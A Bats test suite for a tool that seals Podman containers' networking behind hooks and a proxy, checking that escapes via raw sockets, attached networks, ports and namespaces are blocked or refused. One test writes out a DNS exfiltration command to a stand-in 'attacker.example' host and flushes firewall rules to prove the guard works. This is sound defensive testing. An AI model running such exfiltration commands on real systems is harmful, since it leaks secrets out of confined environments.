# SPDX-License-Identifier: Apache-2.0
#
# Podman with hooks alone, as `sallyport install podman` sets them up: one file in hooks.d, and containers that ask by
# annotation. What hooks cannot see is here too, each with what still stands; container_podman_runtime.bats closes it.

source "$BATS_TEST_DIRNAME/common.bash"
source "$BATS_TEST_DIRNAME/podman.bash"

setup_file()
{
    stage_up
    cp "$WORK/internet/resolv.conf" /etc/resolv.conf
    podman_up
}

teardown_file()
{
    podman_down
    stage_down
}

teardown()
{
    podman_after_test
}

@test "the default network: the allowed way and nothing else" {
    walled
}

@test "a network with a name server of Podman's own: no query leaves" {
    walled --network named
}

@test "slirp4netns" {
    walled --network slirp4netns
}

@test "no network at all, but for ours" {
    sealed --network none
}

@test "an init, a read-only root and another user: sealed, and the filter is on the user's process" {
    walled --init --read-only --user nobody
}

@test "raw sockets that --cap-add and seccomp=unconfined would open stay closed" {
    open=(--cap-add NET_RAW,NET_ADMIN --security-opt seccomp=unconfined)
    run control "${open[@]}" "$IMAGE" /probe socket 17 3 0x0300
    [ "$status" -eq 0 ]
    sealed "${open[@]}"
    run box "${open[@]}" "$IMAGE" grep CapBnd /proc/self/status
    lacks_network_capabilities
}

@test "names: members and the container's own resolve, without a query" {
    keep gateway --annotation io.sallyport.role=gateway
    witness gateway-8642 gateway "$PROBE" listen tcp 0.0.0.0 8642
    run box --hostname this-one --network named "$IMAGE" sh -c 'hostname -i; nc -w 2 gateway 8642; cat /etc/resolv.conf'
    [[ $output == *127.0.1.1*hello* ]] || fail "$output"
    [[ $output != *nameserver* ]] || fail "$output"
    run ! grep -q 'gateway\|this-one' "$WORK/internet/queries"
    run box --network none --no-hosts "$IMAGE" cat /etc/hosts
    says gateway
}

@test "network show has the names that Podman gave" {
    keep shown
    run "$SALLYPORT" network show "$NETWORK"
    grep -q "^10.209.0.* $(cut -c -12 "$WORK/shown.log") .* shown$" <<<"$output" || fail "$output"
    grep -q '(host) .* -$' <<<"$output" || fail "$output"
}

@test "exec is as confined as the container, but for the proxy's environment" {
    keep agent --cap-add NET_RAW,NET_ADMIN
    run podman exec agent sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 201)"
    says_sealed 201
    run podman exec agent grep CapBnd /proc/self/status
    lacks_network_capabilities
    run podman exec agent env
    [[ $output == *container=podman* && $output != *PROXY=* ]] || fail "$output"
}

@test "exec --privileged is what hooks cannot stop: it gets every capability" {
    keep agent
    run podman exec --privileged agent grep CapEff /proc/self/status
    (((16#${output##*[[:space:]]} & 1 << 12) != 0)) || fail "$output"
}

@test "stop, start and restart: sealed again" {
    keep agent
    podman stop --time 0 agent
    eventually no_hub_links
    podman start agent
    podman restart --time 0 agent
    [ "$(hub_links)" -eq 1 ]
    run podman exec agent sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 202)"
    says_sealed 202
}

@test "what Podman starts again by itself is sealed again" {
    keep agent --restart always
    first=$(<"$WORK/agent.pid")
    kill -KILL "$first"
    eventually restarted agent "$first"
    [ "$(hub_links)" -eq 1 ]
    run podman exec agent sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 208)"
    says_sealed 208
}

@test "a network that is connected to a running container is of no use to it, its name server included" {
    server=$(podman network inspect named --format '{{(index .Subnets 0).Gateway}}')
    keep agent
    podman network connect named agent
    network_of agent ip -o link show eth1
    run podman exec agent sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 203)
        nslookup secret-203.attacker.example $server"
    says_sealed 203
    run network_of agent "$PROBE" tcp 203.0.113.203 443 --device eth1 --timeout-ms 1000
    [ "$status" -eq 1 ]
    [ -z "$(arrived 203)" ]
    # The guard is what denies it.
    network_of agent nft flush ruleset
    podman exec agent nslookup secret-203.attacker.example "$server" || true
    run network_of agent "$PROBE" tcp 203.0.113.203 443
    [[ $status -eq 0 && $(arrived 203) == *"203.0.113.203 443"*secret-203* ]] || fail "$output $(arrived 203)"
}

@test "run --rm and rm --force leave nothing" {
    rules=$(podman_traces)
    box --network named "$IMAGE" true
    eventually no_hub_links
    keep agent --network named
    podman_rm agent
    eventually no_hub_links
    [[ $(podman_traces) == "$rules" ]] || fail "was: $rules is: $(podman_traces)"
}

@test "the annotation selects the role" {
    run box --annotation io.sallyport.role=gateway "$IMAGE" ip -4 -o address show dev sp0
    says "$GATEWAY/32"
}

@test "a proxy that Podman takes over from its own environment is not the container's" {
    HTTPS_PROXY=http://203.0.113.250:3128 run box "$IMAGE" sh -c 'echo $HTTPS_PROXY'
    says "http://$PROXY:3128"
    HTTPS_PROXY=http://203.0.113.250:3128 run control "$IMAGE" sh -c 'echo $HTTPS_PROXY'
    says "http://203.0.113.250:3128"
}

@test "what is annotated wrongly does not start, and Podman says where the reason is" {
    refused_box "role \`nobody\` is not in the policy" --annotation io.sallyport.role=nobody
    refused_box "annotation \`io.sallyport.netwrok\` is unknown" --annotation io.sallyport.netwrok=hermes
    refused_box "cannot be had by annotation" --annotation io.sallyport.role=proxy
    run box --annotation io.sallyport.role=proxy "$IMAGE" true
    says "journalctl -t sallyport says why"
}

@test "the reason is on the standard error of whom the user called, although Podman gives the hook none" {
    podman_no_hooks
    "$SALLYPORT" install podman
    box --annotation io.sallyport.role=nobody "$IMAGE" echo started 2>"$WORK/told" && fail "started"
    grep -q "^sallyport: hermes/nobody: role \`nobody\` is not in the policy" "$WORK/told"
    podman_hooks
}

@test "what cannot be sealed does not start, whatever the options" {
    refused_everything
    podman run --detach --name plain --cgroup-parent "$PODMAN_CGROUPS" "$IMAGE"
    refused_box "joins a network namespace" --network container:plain
    refused_box "joins the pid namespace" --pid container:plain
    refused_box "joins the ipc namespace" --ipc container:plain
    never_starts --network ns:/proc/1/ns/net
    refused_box "joins the hub" --network ns:/run/netns/sallyport-hermes
    refused_box "has put interface eth0" --annotation io.sallyport.role=strict
}

# The listening socket that Podman holds for the port is in the hands of crun's init, and not of runc's.
@test "a port that Podman publishes leads nowhere" {
    if [[ $RUNTIME == crun ]]; then
        refused_box "an internet socket of the host" --publish 127.0.0.1:8088:80
    else
        keep agent --publish 127.0.0.1:8088:80
        witness agent-80 agent "$PROBE" listen tcp 0.0.0.0 80
        run "$PROBE" tcp 127.0.0.1 8088 --greeting --timeout-ms 1000
        [ "$status" -eq 1 ]
    fi
    podman run --detach --name plain --pidfile "$WORK/plain.pid" --cgroup-parent "$PODMAN_CGROUPS" \
        --publish 127.0.0.1:8089:80 "$IMAGE"
    witness plain-80 plain "$PROBE" listen tcp 0.0.0.0 80
    run "$PROBE" tcp 127.0.0.1 8089 --greeting
    says greeting=hello
}

@test "a user namespace: sealed with no network, refused with one that comes after the hooks" {
    sealed --uidmap 0:100000:65536 --network none
    refused_box "after the hooks" --uidmap 0:100000:65536
    refused_box "after the hooks" --uidmap 0:100000:65536 --network named
}

@test "a container that joins a sealed one has its role or does not start" {
    keep agent
    run box --network container:agent "$IMAGE" sh -c "$(attempts 204)"
    says_sealed 204
    refused_box "already sealed as role \`agent\`" --network container:agent --annotation io.sallyport.role=gateway
}

@test "a pod whose first container did not ask is no place for one that does" {
    podman pod create --name pod --cgroup-parent "$PODMAN_CGROUPS" --infra-image "$IMAGE"
    refused_box "not sealed" --pod pod
}

@test "mandatory and pinned: everything is sealed, pods and what joins them too, and annotations choose nothing" {
    podman_hooks --mandatory="$NETWORK.agent"
    run control --annotation io.sallyport.role=gateway "$IMAGE" sh -c "ip -4 -o address show dev sp0; $(attempts 205)"
    says_sealed 205
    [[ $output != *"$GATEWAY/"* ]] || fail "$output"
    BOX=()
    refused_everything
    podman pod create --name pod --cgroup-parent "$PODMAN_CGROUPS" --infra-image "$IMAGE"
    run control --pod pod "$IMAGE" sh -c "$(attempts 206)"
    says_sealed 206
    podman pod rm --force --time 0 pod
    kube_pod | podman kube play - || fail "kube play"
    run podman exec pod-container sh -c "export HTTPS_PROXY=http://$PROXY:3128; $(attempts 207)"
    says_sealed 207
    podman_hooks
}

@test "who did not ask is left alone" {
    run control "$IMAGE" ip -o link show
    [[ $output == *eth0* && $output != *sp0* ]] || fail "$output"
}
